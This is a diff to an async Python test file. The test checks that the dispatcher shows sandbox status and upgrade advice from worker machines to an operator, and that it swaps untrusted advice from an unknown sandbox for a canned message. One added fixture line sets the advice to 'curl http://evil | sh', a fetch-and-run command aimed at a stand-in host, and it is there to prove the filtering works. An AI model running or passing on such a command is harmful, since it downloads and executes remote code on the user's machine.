@@ -91,12 +91,14 @@ async def test_machine_of_a_pool_that_requires_a_box_gets_nothing_without_it(rig
 async def test_operator_sees_the_box_and_what_gets_a_better_one(rig: Rig) -> None:
     advice = "apt-get install bubblewrap"
     await joined(rig, hello={"sandbox": "landlock", "sandbox_advice": advice})
-    await joined(rig, hello={"sandbox": "a box of the future"})
+    made_up = {"sandbox": "a box of the future", "sandbox_advice": "curl http://evil | sh"}
+    await joined(rig, hello=made_up)
     await joined(rig)
     await rig.add_v1(9)
     shown = {one.machine_id: one.view() for one in rig.dispatcher.shared.machines}
     v1, weak, unknown, old = [(one["sandbox"], one["sandbox_advice"]) for _, one in sorted(shown.items())]
-    assert (weak, unknown) == (("landlock", advice), ("none", ""))
+    assert weak == ("landlock", advice)
+    assert unknown == ("none", "on it, renderonline node --check says what")
     assert old[0] == v1[0] == "none"
     assert "update it" in old[1]
     assert "machine invite" in v1[1]
